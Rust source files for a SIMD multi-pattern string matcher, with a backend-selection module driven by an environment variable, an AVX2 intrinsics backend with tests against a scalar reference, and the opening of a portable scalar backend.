//! benches that iterate the available list) deterministically exercises that
//! one code path. This is how CI pins the scalar and AVX2 paths under test
//! regardless of runner silicon.
//!
//! Forcing never lies about hardware: naming a backend the CPU cannot run
//! (or an unknown name) panics with a diagnostic on first use rather than
//! silently falling back. Explicit instantiation (`VPatch::<Avx2Backend,
//! 8>::build`) and [`BackendKind::is_available`] keep reporting the hardware
//! truth — the override narrows choice, it does not fake capability.

use crate::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use std::sync::OnceLock;

/// Environment variable that pins dispatch-level backend selection
/// (`scalar`, `avx2` or `avx512`). See the module documentation.
pub const FORCE_BACKEND_ENV: &str = "MPM_FORCE_BACKEND";

/// The backends an engine can be instantiated with.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Hash)]
pub enum BackendKind {
    /// Portable scalar loops (always available).
    Scalar,
    /// AVX2, 8 × 32-bit lanes (the paper's Haswell platform).
    Avx2,
    /// AVX-512F, 16 × 32-bit lanes (the paper's Xeon-Phi vector width).
    Avx512,
}

impl BackendKind {
    /// Number of 32-bit lanes this backend processes per iteration.
    /// The scalar backend is reported as 1 (it has no fixed width; engines
    /// choose the width they instantiate it at).
    pub fn lanes(self) -> usize {
        match self {
            BackendKind::Scalar => 1,
            BackendKind::Avx2 => 8,
            BackendKind::Avx512 => 16,
        }
    }

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            BackendKind::Scalar => "scalar",
            BackendKind::Avx2 => "avx2",
            BackendKind::Avx512 => "avx512",
        }
    }

    /// Parses a backend name as used by [`FORCE_BACKEND_ENV`]
    /// (case-insensitive; `avx-512`/`avx512f` are accepted for `avx512`).
    pub fn from_name(name: &str) -> Option<BackendKind> {
        match name.trim().to_ascii_lowercase().as_str() {
            "scalar" => Some(BackendKind::Scalar),
            "avx2" => Some(BackendKind::Avx2),
            "avx512" | "avx-512" | "avx512f" => Some(BackendKind::Avx512),
            _ => None,
        }
    }

    /// True if the current CPU can run this backend. Reports the hardware
    /// truth; [`forced_backend`] does not affect it.
    pub fn is_available(self) -> bool {
        match self {
            BackendKind::Scalar => <ScalarBackend as VectorBackend<8>>::is_available(),
            BackendKind::Avx2 => <Avx2Backend as VectorBackend<8>>::is_available(),
            BackendKind::Avx512 => <Avx512Backend as VectorBackend<16>>::is_available(),
        }
    }
}

impl std::fmt::Display for BackendKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// The backend pinned by [`FORCE_BACKEND_ENV`], if any.
///
/// The environment is read once (first call wins, the result is cached for
/// the process lifetime, matching how tests and engines expect a stable
/// dispatch decision).
///
/// # Panics
/// Panics if the variable is set to an unknown name, or names a backend this
/// CPU cannot run — a forced run must never silently measure or test a
/// different code path than the one asked for.
pub fn forced_backend() -> Option<BackendKind> {
    static FORCED: OnceLock<Option<BackendKind>> = OnceLock::new();
    *FORCED.get_or_init(|| {
        let value = std::env::var(FORCE_BACKEND_ENV).ok()?;
        let kind = parse_force_value(&value)?;
        assert!(
            kind.is_available(),
            "{FORCE_BACKEND_ENV}={} but this CPU does not support it",
            kind.name()
        );
        Some(kind)
    })
}

/// Parses a raw [`FORCE_BACKEND_ENV`] value. The value is normalized with
/// trim + ASCII-lowercase before matching, so `AVX2`, ` avx512 ` and the
/// trailing newline that shell quoting (`MPM_FORCE_BACKEND="avx2\n"`) or
/// `echo`-built env files commonly leave behind all resolve to their
/// backend. A value that is empty after trimming counts as unset.
///
/// Extracted from [`forced_backend`] so the full unset/normalized/unknown
/// decision — previously spread between the env read and
/// [`BackendKind::from_name`]'s own normalization — lives (and is unit
/// tested) in one place; `forced_backend`'s `OnceLock` makes the composed
/// path untestable in-process.
///
/// # Panics
/// Panics on a genuinely unknown name — a forced run must never silently
/// fall back to a different code path than the one asked for.
fn parse_force_value(value: &str) -> Option<BackendKind> {
    let normalized = value.trim();
    if normalized.is_empty() {
        return None;
    }
    match BackendKind::from_name(normalized) {
        Some(kind) => Some(kind),
        None => {
            panic!("{FORCE_BACKEND_ENV}={value:?} is not a backend (expected scalar|avx2|avx512)")
        }
    }
}

/// Returns every backend dispatch may select, in increasing width order.
///
/// Without a [`forced_backend`] this is every backend the CPU supports
/// (scalar is always present); with one it is exactly the forced backend, so
/// callers that sweep "all available backends" stay pinned too.
pub fn available_backends() -> Vec<BackendKind> {
    if let Some(kind) = forced_backend() {
        return vec![kind];
    }
    let mut v = vec![BackendKind::Scalar];
    if BackendKind::Avx2.is_available() {
        v.push(BackendKind::Avx2);
    }
    if BackendKind::Avx512.is_available() {
        v.push(BackendKind::Avx512);
    }
    v
}

/// The backend an engine's `new_auto`/`build_auto` constructor should pick:
/// the [`forced_backend`] when set, otherwise the widest available backend
/// (best throughput on this machine).
pub fn detect_best() -> BackendKind {
    *available_backends()
        .last()
        .expect("scalar is always available")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scalar_is_always_available() {
        assert!(BackendKind::Scalar.is_available());
        // `is_available` reports hardware truth regardless of any force; the
        // available list contains scalar unless a non-scalar force narrowed it.
        match forced_backend() {
            None | Some(BackendKind::Scalar) => {
                assert!(available_backends().contains(&BackendKind::Scalar));
            }
            Some(kind) => assert_eq!(available_backends(), vec![kind]),
        }
    }

    #[test]
    fn detect_best_returns_an_available_backend() {
        let best = detect_best();
        assert!(best.is_available());
        // Best is the last (widest) entry of the available list.
        assert_eq!(best, *available_backends().last().unwrap());
        if let Some(kind) = forced_backend() {
            assert_eq!(best, kind, "forcing must pin detect_best");
        }
    }

    #[test]
    fn lanes_and_names() {
        assert_eq!(BackendKind::Scalar.lanes(), 1);
        assert_eq!(BackendKind::Avx2.lanes(), 8);
        assert_eq!(BackendKind::Avx512.lanes(), 16);
        assert_eq!(BackendKind::Avx2.name(), "avx2");
        assert_eq!(format!("{}", BackendKind::Avx512), "avx512");
    }

    #[test]
    fn from_name_round_trips_and_rejects_garbage() {
        for kind in [BackendKind::Scalar, BackendKind::Avx2, BackendKind::Avx512] {
            assert_eq!(BackendKind::from_name(kind.name()), Some(kind));
        }
        assert_eq!(BackendKind::from_name(" AVX2 "), Some(BackendKind::Avx2));
        assert_eq!(BackendKind::from_name("avx-512"), Some(BackendKind::Avx512));
        assert_eq!(BackendKind::from_name("sse2"), None);
        assert_eq!(BackendKind::from_name(""), None);
    }

    #[test]
    fn force_values_are_normalized_before_matching() {
        // Uppercase, surrounding whitespace and the trailing newline shell
        // quoting leaves behind must all resolve — not panic.
        assert_eq!(parse_force_value("AVX2"), Some(BackendKind::Avx2));
        assert_eq!(parse_force_value("avx2\n"), Some(BackendKind::Avx2));
        assert_eq!(parse_force_value(" Scalar \n"), Some(BackendKind::Scalar));
        assert_eq!(parse_force_value("AVX512\n"), Some(BackendKind::Avx512));
        assert_eq!(parse_force_value("Avx-512"), Some(BackendKind::Avx512));
        // Empty-after-trim counts as unset.
        assert_eq!(parse_force_value(""), None);
        assert_eq!(parse_force_value(" \n\t"), None);
    }

    #[test]
    #[should_panic(expected = "is not a backend")]
    fn genuinely_unknown_force_value_still_panics() {
        let _ = parse_force_value("sse2\n");
    }

    #[test]
    fn available_list_is_ordered_by_width() {
        let list = available_backends();
        let lanes: Vec<usize> = list.iter().map(|b| b.lanes()).collect();
        let mut sorted = lanes.clone();
        sorted.sort_unstable();
        assert_eq!(lanes, sorted);
    }

    #[test]
    fn forced_backend_matches_environment() {
        // The OnceLock caches the first read, so this test only asserts
        // consistency with whatever the process environment says now.
        match std::env::var(FORCE_BACKEND_ENV) {
            Ok(value) if !value.trim().is_empty() => {
                assert_eq!(forced_backend(), BackendKind::from_name(&value));
            }
            _ => assert_eq!(forced_backend(), None),
        }
    }
}
