//! AVX2 backend (8 × 32-bit lanes) — the paper's Haswell configuration.
//!
//! Uses the instructions the paper singles out: `vpgatherdd`
//! (`_mm256_i32gather_epi32`) for the filter lookups, byte shuffles /
//! zero-extensions for the sliding-window transformation, variable per-lane
//! shifts for the bitmap bit test and `movemask` to hand the per-lane
//! results back to scalar control flow. Its register type is `__m256i`, so
//! chained trait ops stay in `ymm` registers with no array spill between
//! them.
//!
//! AVX2 has no compress instruction, so
//! [`VectorBackend::compress_store`] is implemented with the classic
//! left-packing idiom: a 256-entry LUT maps the 8-bit lane mask to a lane
//! permutation, `vpermd` (`_mm256_permutevar8x32_epi32`) packs the surviving
//! `base + lane` positions to the front of the register, and one unaligned
//! store plus a `popcnt` length bump publishes them.
//!
//! # Availability
//! All methods assume the CPU supports AVX2. Engine constructors check
//! [`Avx2Backend::is_available`] once and fall back to the scalar backend
//! otherwise; on non-x86_64 targets every method forwards to the scalar
//! implementation.

#[cfg(not(target_arch = "x86_64"))]
use crate::scalar::ScalarBackend;
use crate::VectorBackend;
#[cfg(all(target_arch = "x86_64", debug_assertions))]
use crate::GATHER_PADDING;

/// Zero-sized marker type selecting the AVX2 implementation.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Avx2Backend;

#[cfg(target_arch = "x86_64")]
mod imp {
    use super::*;
    use std::arch::x86_64::*;

    #[inline]
    fn to_m256i(v: [u32; 8]) -> __m256i {
        // SAFETY: [u32; 8] and __m256i have the same size; loadu has no
        // alignment requirement.
        unsafe { _mm256_loadu_si256(v.as_ptr() as *const __m256i) }
    }

    #[inline]
    fn from_m256i(v: __m256i) -> [u32; 8] {
        let mut out = [0u32; 8];
        // SAFETY: storeu writes 32 bytes into a 32-byte array.
        unsafe { _mm256_storeu_si256(out.as_mut_ptr() as *mut __m256i, v) };
        out
    }

    /// Lane-permutation LUT for the left-packing `compress_store`: entry `m`
    /// lists, front-packed, the indices of the set bits of `m` (unused tail
    /// lanes repeat 0 and are never published).
    static COMPRESS_LUT: [[u32; 8]; 256] = build_compress_lut();

    const fn build_compress_lut() -> [[u32; 8]; 256] {
        let mut lut = [[0u32; 8]; 256];
        let mut m = 0usize;
        while m < 256 {
            let mut dst = 0usize;
            let mut lane = 0usize;
            while lane < 8 {
                if m & (1 << lane) != 0 {
                    lut[m][dst] = lane as u32;
                    dst += 1;
                }
                lane += 1;
            }
            m += 1;
        }
        lut
    }

    /// Zero-extends the 8 bytes starting at `ptr + offset` into 8 u32 lanes.
    ///
    /// # Safety
    /// Caller must guarantee AVX2 is available and that at least
    /// `offset + 16` bytes are readable from `ptr` (we load 16 bytes and use
    /// the low 8).
    #[target_feature(enable = "avx2")]
    unsafe fn load_bytes_as_u32(ptr: *const u8, offset: usize) -> __m256i {
        let raw = _mm_loadu_si128(ptr.add(offset) as *const __m128i);
        _mm256_cvtepu8_epi32(raw)
    }

    /// # Safety: AVX2 required and `pos + 9 <= input.len()`. Reads either
    /// directly from the input (fast path, when at least 17 bytes remain) or
    /// from a bounded stack copy near the end of the buffer.
    #[target_feature(enable = "avx2")]
    unsafe fn windows2_avx2(input: &[u8], pos: usize) -> __m256i {
        let block;
        let ptr = if pos + 17 <= input.len() {
            input.as_ptr().add(pos)
        } else {
            block = block_at(input, pos, 9);
            block.as_ptr()
        };
        let lo = load_bytes_as_u32(ptr, 0);
        let hi = load_bytes_as_u32(ptr, 1);
        _mm256_or_si256(lo, _mm256_slli_epi32(hi, 8))
    }

    /// # Safety: AVX2 required and `pos + 11 <= input.len()`.
    #[target_feature(enable = "avx2")]
    unsafe fn windows4_avx2(input: &[u8], pos: usize) -> __m256i {
        let block;
        let ptr = if pos + 19 <= input.len() {
            input.as_ptr().add(pos)
        } else {
            block = block_at(input, pos, 11);
            block.as_ptr()
        };
        let b0 = load_bytes_as_u32(ptr, 0);
        let b1 = load_bytes_as_u32(ptr, 1);
        let b2 = load_bytes_as_u32(ptr, 2);
        let b3 = load_bytes_as_u32(ptr, 3);
        _mm256_or_si256(
            _mm256_or_si256(b0, _mm256_slli_epi32(b1, 8)),
            _mm256_or_si256(_mm256_slli_epi32(b2, 16), _mm256_slli_epi32(b3, 24)),
        )
    }

    /// Trampoline that gives the caller's code AVX2 codegen context so the
    /// `#[target_feature]` kernels above can be inlined into it.
    ///
    /// # Safety: AVX2 must be available (checked by the safe `dispatch`).
    #[target_feature(enable = "avx2")]
    unsafe fn dispatch_avx2<R>(f: impl FnOnce() -> R) -> R {
        f()
    }

    /// # Safety: AVX2 required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx2")]
    unsafe fn gather_bytes_avx2(table: &[u8], idx: __m256i) -> __m256i {
        // Scale 1: indices are byte offsets. The gather loads 4 bytes per
        // lane, which is why tables carry GATHER_PADDING trailing bytes.
        let gathered = _mm256_i32gather_epi32(table.as_ptr() as *const i32, idx, 1);
        _mm256_and_si256(gathered, _mm256_set1_epi32(0xff))
    }

    /// # Safety: AVX2 required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx2")]
    unsafe fn gather_u16_avx2(table: &[u8], idx: __m256i) -> __m256i {
        let gathered = _mm256_i32gather_epi32(table.as_ptr() as *const i32, idx, 1);
        _mm256_and_si256(gathered, _mm256_set1_epi32(0xffff))
    }

    /// # Safety: AVX2 required; every `idx[j] + 4 <= table.len()`.
    #[target_feature(enable = "avx2")]
    unsafe fn gather_u32_avx2(table: &[u8], idx: __m256i) -> __m256i {
        _mm256_i32gather_epi32(table.as_ptr() as *const i32, idx, 1)
    }

    /// Masked-load window comparison (see `VectorBackend::eq_window`):
    /// full 32-byte blocks ride `vpcmpeqb` + `vpmovmskb`; the remainder is
    /// read with a dword-granular `vpmaskmovd`, which architecturally does
    /// not access masked-out elements, so the loads never touch bytes past
    /// either slice. The final `len % 4` bytes are compared scalar. With
    /// `FOLD`, both sides pass through the byte-range ASCII fold first, so
    /// the compare is `eq_ignore_ascii_case`.
    ///
    /// # Safety: AVX2 required; `a.len() == b.len()`.
    #[target_feature(enable = "avx2")]
    unsafe fn eq_window_avx2<const FOLD: bool>(a: &[u8], b: &[u8]) -> bool {
        debug_assert_eq!(a.len(), b.len());
        let len = a.len();
        let fold = |v: __m256i| if FOLD { to_ascii_lower_avx2(v) } else { v };
        let mut i = 0usize;
        while i + 32 <= len {
            let va = fold(_mm256_loadu_si256(a.as_ptr().add(i) as *const __m256i));
            let vb = fold(_mm256_loadu_si256(b.as_ptr().add(i) as *const __m256i));
            if _mm256_movemask_epi8(_mm256_cmpeq_epi8(va, vb)) != -1 {
                return false;
            }
            i += 32;
        }
        let dwords = (len - i) / 4;
        if dwords > 0 {
            // Lane j participates iff j < dwords; vpmaskmovd leaves the
            // other lanes zero on both sides, which compare equal.
            let lane_mask = _mm256_cmpgt_epi32(
                _mm256_set1_epi32(dwords as i32),
                _mm256_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7),
            );
            let va = fold(_mm256_maskload_epi32(
                a.as_ptr().add(i) as *const i32,
                lane_mask,
            ));
            let vb = fold(_mm256_maskload_epi32(
                b.as_ptr().add(i) as *const i32,
                lane_mask,
            ));
            if _mm256_movemask_epi8(_mm256_cmpeq_epi8(va, vb)) != -1 {
                return false;
            }
            i += dwords * 4;
        }
        while i < len {
            let (x, y) = if FOLD {
                (a[i].to_ascii_lowercase(), b[i].to_ascii_lowercase())
            } else {
                (a[i], b[i])
            };
            if x != y {
                return false;
            }
            i += 1;
        }
        true
    }

    /// Byte-granular ASCII lowercasing: the classic range-compare +
    /// `or 0x20` idiom. The signed `vpcmpgtb` compares are safe here because
    /// `'A'-1` and `'Z'+1` are both positive: bytes `0x80..=0xFF` read as
    /// negative, fail the `> 0x40` test and stay untouched.
    ///
    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn to_ascii_lower_avx2(v: __m256i) -> __m256i {
        let ge_a = _mm256_cmpgt_epi8(v, _mm256_set1_epi8(0x40)); // byte > '@'
        let le_z = _mm256_cmpgt_epi8(_mm256_set1_epi8(0x5b), v); // byte < '['
        let upper = _mm256_and_si256(ge_a, le_z);
        _mm256_or_si256(v, _mm256_and_si256(upper, _mm256_set1_epi8(0x20)))
    }

    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn hash_mul_shift_avx2(v: __m256i, mul: u32, shift: u32, mask: u32) -> __m256i {
        let x = _mm256_mullo_epi32(v, _mm256_set1_epi32(mul as i32));
        let x = _mm256_srl_epi32(x, _mm_cvtsi32_si128(shift as i32));
        _mm256_and_si256(x, _mm256_set1_epi32(mask as i32))
    }

    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn shr_const_avx2(v: __m256i, n: u32) -> __m256i {
        _mm256_srl_epi32(v, _mm_cvtsi32_si128(n as i32))
    }

    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn and_const_avx2(v: __m256i, c: u32) -> __m256i {
        _mm256_and_si256(v, _mm256_set1_epi32(c as i32))
    }

    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn test_window_bits_avx2(bytes: __m256i, windows: __m256i) -> u32 {
        let bit = _mm256_and_si256(windows, _mm256_set1_epi32(7));
        let shifted = _mm256_srlv_epi32(bytes, bit);
        let one = _mm256_and_si256(shifted, _mm256_set1_epi32(1));
        let hit = _mm256_cmpeq_epi32(one, _mm256_set1_epi32(1));
        _mm256_movemask_ps(_mm256_castsi256_ps(hit)) as u32
    }

    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn nonzero_mask_avx2(v: __m256i) -> u32 {
        let zero = _mm256_setzero_si256();
        let eq = _mm256_cmpeq_epi32(v, zero);
        (!(_mm256_movemask_ps(_mm256_castsi256_ps(eq)) as u32)) & 0xff
    }

    /// Left-packing candidate store (see the module docs).
    ///
    /// # Safety: AVX2 required.
    #[target_feature(enable = "avx2")]
    unsafe fn compress_store_avx2(mask: u32, base: u32, out: &mut Vec<u32>) {
        let m = (mask & 0xff) as usize;
        let len = out.len();
        if out.capacity() - len < 8 {
            // Cold: Vec::reserve grows amortized, so candidate-dense inputs
            // do not reallocate per block.
            out.reserve(8);
        }
        let positions = _mm256_add_epi32(
            _mm256_set1_epi32(base as i32),
            _mm256_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7),
        );
        let perm = _mm256_loadu_si256(COMPRESS_LUT[m].as_ptr() as *const __m256i);
        let packed = _mm256_permutevar8x32_epi32(positions, perm);
        // SAFETY: 8 lanes (32 bytes) of spare capacity were reserved above;
        // only the first popcnt(m) stored lanes are published via set_len.
        _mm256_storeu_si256(out.as_mut_ptr().add(len) as *mut __m256i, packed);
        out.set_len(len + m.count_ones() as usize);
    }

    /// Copies the (up to 24-byte) window block the shuffle kernels read from,
    /// so that loads near the end of the input never run past the slice.
    #[inline]
    fn block_at(input: &[u8], pos: usize, needed: usize) -> [u8; 24] {
        let mut block = [0u8; 24];
        debug_assert!(pos + needed <= input.len());
        if pos + 24 <= input.len() {
            block.copy_from_slice(&input[pos..pos + 24]);
        } else {
            let avail = input.len() - pos;
            block[..avail].copy_from_slice(&input[pos..]);
        }
        block
    }

    impl VectorBackend<8> for Avx2Backend {
        type Vec = __m256i;

        fn name() -> &'static str {
            "avx2"
        }

        fn is_available() -> bool {
            std::arch::is_x86_feature_detected!("avx2")
        }

        #[inline(always)]
        fn dispatch<R>(f: impl FnOnce() -> R) -> R {
            debug_assert!(<Avx2Backend as VectorBackend<8>>::is_available());
            // SAFETY: engines check availability at construction before any
            // dispatch; the trampoline only changes codegen flags.
            unsafe { dispatch_avx2(f) }
        }

        #[inline(always)]
        fn from_array(v: [u32; 8]) -> __m256i {
            to_m256i(v)
        }

        #[inline(always)]
        fn to_array(v: __m256i) -> [u32; 8] {
            from_m256i(v)
        }

        #[inline(always)]
        fn windows2(input: &[u8], pos: usize) -> __m256i {
            assert!(pos + 9 <= input.len(), "windows2 out of bounds");
            // SAFETY: availability is checked at engine construction; the
            // bound above plus the kernel's internal tail copy bound every
            // load.
            unsafe { windows2_avx2(input, pos) }
        }

        #[inline(always)]
        fn windows4(input: &[u8], pos: usize) -> __m256i {
            assert!(pos + 11 <= input.len(), "windows4 out of bounds");
            // SAFETY: as above.
            unsafe { windows4_avx2(input, pos) }
        }

        #[inline(always)]
        fn gather_bytes(table: &[u8], idx: __m256i) -> __m256i {
            #[cfg(debug_assertions)]
            for &i in &from_m256i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; the
            // padding contract bounds the 4-byte per-lane loads.
            unsafe { gather_bytes_avx2(table, idx) }
        }

        #[inline(always)]
        fn gather_u16(table: &[u8], idx: __m256i) -> __m256i {
            #[cfg(debug_assertions)]
            for &i in &from_m256i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; padding
            // contract bounds the per-lane 4-byte loads.
            unsafe { gather_u16_avx2(table, idx) }
        }

        #[inline(always)]
        fn gather_u32(table: &[u8], idx: __m256i) -> __m256i {
            #[cfg(debug_assertions)]
            for &i in &from_m256i(idx) {
                assert!(
                    i as usize + GATHER_PADDING <= table.len(),
                    "gather index {i} violates padding requirement"
                );
            }
            // SAFETY: availability checked at engine construction; the
            // padding contract bounds the 4-byte per-lane loads.
            unsafe { gather_u32_avx2(table, idx) }
        }

        #[inline(always)]
        fn eq_window(window: &[u8], pattern: &[u8]) -> bool {
            // SAFETY: availability checked at engine construction; lengths
            // asserted equal inside, masked loads stay inside the slices.
            unsafe { eq_window_avx2::<false>(window, pattern) }
        }

        #[inline(always)]
        fn eq_window_nocase(window: &[u8], pattern: &[u8]) -> bool {
            // SAFETY: as above.
            unsafe { eq_window_avx2::<true>(window, pattern) }
        }

        #[inline(always)]
        fn to_ascii_lower(v: __m256i) -> __m256i {
            // SAFETY: availability checked at engine construction.
            unsafe { to_ascii_lower_avx2(v) }
        }

        #[inline(always)]
        fn hash_mul_shift(v: __m256i, mul: u32, shift: u32, mask: u32) -> __m256i {
            // SAFETY: availability checked at engine construction.
            unsafe { hash_mul_shift_avx2(v, mul, shift, mask) }
        }

        #[inline(always)]
        fn shr_const(v: __m256i, n: u32) -> __m256i {
            // SAFETY: availability checked at engine construction.
            unsafe { shr_const_avx2(v, n) }
        }

        #[inline(always)]
        fn and_const(v: __m256i, c: u32) -> __m256i {
            // SAFETY: availability checked at engine construction.
            unsafe { and_const_avx2(v, c) }
        }

        #[inline(always)]
        fn test_window_bits(bytes: __m256i, windows: __m256i) -> u32 {
            // SAFETY: availability checked at engine construction.
            unsafe { test_window_bits_avx2(bytes, windows) }
        }

        #[inline(always)]
        fn nonzero_mask(v: __m256i) -> u32 {
            // SAFETY: availability checked at engine construction.
            unsafe { nonzero_mask_avx2(v) }
        }

        #[inline(always)]
        fn compress_store(mask: u32, base: u32, out: &mut Vec<u32>) {
            // SAFETY: availability checked at engine construction; the kernel
            // reserves the spare capacity it over-stores into.
            unsafe { compress_store_avx2(mask, base, out) }
        }
    }
}

/// On non-x86_64 targets the AVX2 marker type simply forwards to the scalar
/// semantics so the crate still compiles and tests run everywhere.
#[cfg(not(target_arch = "x86_64"))]
impl VectorBackend<8> for Avx2Backend {
    type Vec = [u32; 8];

    fn name() -> &'static str {
        "avx2(unavailable)"
    }
    fn is_available() -> bool {
        false
    }
    fn from_array(v: [u32; 8]) -> [u32; 8] {
        v
    }
    fn to_array(v: [u32; 8]) -> [u32; 8] {
        v
    }
    fn windows2(input: &[u8], pos: usize) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::windows2(input, pos)
    }
    fn windows4(input: &[u8], pos: usize) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::windows4(input, pos)
    }
    fn gather_bytes(table: &[u8], idx: [u32; 8]) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::gather_bytes(table, idx)
    }
    fn hash_mul_shift(v: [u32; 8], mul: u32, shift: u32, mask: u32) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::hash_mul_shift(v, mul, shift, mask)
    }
    fn shr_const(v: [u32; 8], n: u32) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::shr_const(v, n)
    }
    fn and_const(v: [u32; 8], c: u32) -> [u32; 8] {
        <ScalarBackend as VectorBackend<8>>::and_const(v, c)
    }
}

#[cfg(all(test, target_arch = "x86_64"))]
mod tests {
    use super::*;
    use crate::scalar::ScalarBackend;

    type A8 = Avx2Backend;
    type S8 = ScalarBackend;

    fn skip() -> bool {
        !<A8 as VectorBackend<8>>::is_available()
    }

    fn a(v: <A8 as VectorBackend<8>>::Vec) -> [u32; 8] {
        <A8 as VectorBackend<8>>::to_array(v)
    }

    #[test]
    fn windows_agree_with_scalar() {
        if skip() {
            return;
        }
        let input: Vec<u8> = (0..64u8)
            .map(|i| i.wrapping_mul(37).wrapping_add(11))
            .collect();
        for pos in 0..40 {
            let a2 = a(<A8 as VectorBackend<8>>::windows2(&input, pos));
            let s2 = <S8 as VectorBackend<8>>::windows2(&input, pos);
            assert_eq!(a2, s2, "windows2 mismatch at pos {pos}");
            let a4 = a(<A8 as VectorBackend<8>>::windows4(&input, pos));
            let s4 = <S8 as VectorBackend<8>>::windows4(&input, pos);
            assert_eq!(a4, s4, "windows4 mismatch at pos {pos}");
        }
    }

    #[test]
    fn windows_at_end_of_input_do_not_overread() {
        if skip() {
            return;
        }
        // Exactly the minimum bytes needed: pos + 9 for windows2.
        let input = vec![7u8; 9];
        assert_eq!(
            a(<A8 as VectorBackend<8>>::windows2(&input, 0)),
            <S8 as VectorBackend<8>>::windows2(&input, 0)
        );
        let input4 = vec![9u8; 11];
        assert_eq!(
            a(<A8 as VectorBackend<8>>::windows4(&input4, 0)),
            <S8 as VectorBackend<8>>::windows4(&input4, 0)
        );
    }

    #[test]
    fn gather_agrees_with_scalar() {
        if skip() {
            return;
        }
        let table: Vec<u8> = (0..1024u32).map(|i| (i * 131 % 251) as u8).collect();
        let idx = [0u32, 5, 100, 1019, 512, 7, 999, 1];
        let got = a(<A8 as VectorBackend<8>>::gather_bytes(
            &table,
            <A8 as VectorBackend<8>>::from_array(idx),
        ));
        assert_eq!(got, <S8 as VectorBackend<8>>::gather_bytes(&table, idx));
    }

    #[test]
    fn arithmetic_agrees_with_scalar() {
        if skip() {
            return;
        }
        let v = [1u32, 0xffff_ffff, 12345, 0, 77, 0x8000_0000, 3, 9];
        let reg = <A8 as VectorBackend<8>>::from_array(v);
        assert_eq!(
            a(<A8 as VectorBackend<8>>::hash_mul_shift(
                reg,
                0x9E37_79B1,
                19,
                0x1fff
            )),
            <S8 as VectorBackend<8>>::hash_mul_shift(v, 0x9E37_79B1, 19, 0x1fff)
        );
        assert_eq!(
            a(<A8 as VectorBackend<8>>::shr_const(reg, 3)),
            <S8 as VectorBackend<8>>::shr_const(v, 3)
        );
        assert_eq!(
            a(<A8 as VectorBackend<8>>::and_const(reg, 0xff)),
            <S8 as VectorBackend<8>>::and_const(v, 0xff)
        );
    }

    #[test]
    fn masks_agree_with_scalar() {
        if skip() {
            return;
        }
        let bytes = [0b1000_0001u32, 0, 0xff, 2, 4, 8, 16, 32];
        let windows = [0u32, 1, 7, 1, 2, 3, 4, 5];
        assert_eq!(
            <A8 as VectorBackend<8>>::test_window_bits(
                <A8 as VectorBackend<8>>::from_array(bytes),
                <A8 as VectorBackend<8>>::from_array(windows)
            ),
            <S8 as VectorBackend<8>>::test_window_bits(bytes, windows)
        );
        let v = [0u32, 1, 0, 2, 0, 0, 3, 0];
        assert_eq!(
            <A8 as VectorBackend<8>>::nonzero_mask(<A8 as VectorBackend<8>>::from_array(v)),
            <S8 as VectorBackend<8>>::nonzero_mask(v)
        );
    }

    #[test]
    fn to_ascii_lower_agrees_with_scalar_on_every_byte() {
        if skip() {
            return;
        }
        // Every byte value through every lane byte position.
        for b in 0..=255u32 {
            let v: [u32; 8] = [
                b,
                b << 8,
                b << 16,
                b << 24,
                b.wrapping_mul(0x0101_0101),
                u32::from_le_bytes(*b"GeT "),
                !b,
                b ^ 0x8040_2010,
            ];
            let got = a(<A8 as VectorBackend<8>>::to_ascii_lower(
                <A8 as VectorBackend<8>>::from_array(v),
            ));
            let expected = <S8 as VectorBackend<8>>::to_ascii_lower(v);
            assert_eq!(got, expected, "byte {b:#04x}");
        }
    }

    #[test]
    fn compress_store_agrees_with_scalar_on_every_mask() {
        if skip() {
            return;
        }
        for mask in 0u32..256 {
            let mut expected = vec![0xdead_beef];
            <S8 as VectorBackend<8>>::compress_store(mask, 1000, &mut expected);
            let mut got = vec![0xdead_beef];
            <A8 as VectorBackend<8>>::compress_store(mask, 1000, &mut got);
            assert_eq!(got, expected, "mask {mask:#010b}");
        }
    }

    #[test]
    fn compress_store_grows_from_zero_capacity() {
        if skip() {
            return;
        }
        let mut out = Vec::new();
        <A8 as VectorBackend<8>>::compress_store(0xff, 0, &mut out);
        assert_eq!(out, vec![0, 1, 2, 3, 4, 5, 6, 7]);
    }
}
