//! Portable scalar implementation of [`VectorBackend`].
//!
//! This backend defines the reference semantics every SIMD backend must
//! reproduce, and is the fallback used on CPUs without AVX2. It is also the
//! "S-PATCH run through the vector interface" used by some ablation benches:
//! plain loops over `W`-element arrays, which the compiler may or may not
//! auto-vectorize, but which never use gather hardware.
//!
//! Its register type [`VectorBackend::Vec`] is the plain `[u32; W]` lane
//! array, so the trait's array-based default implementations (`gather_u16`,
//! `test_window_bits`, `nonzero_mask`, `compress_store`) *are* the scalar
//! implementations.

use crate::{VectorBackend, GATHER_PADDING};

/// Scalar backend generic over the lane count.
///
/// Use the [`ScalarWide8`] / [`ScalarWide16`] aliases when a concrete width
/// is needed (e.g. to emulate the AVX2 / Xeon-Phi widths on machines without
/// those instruction sets).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ScalarBackend;

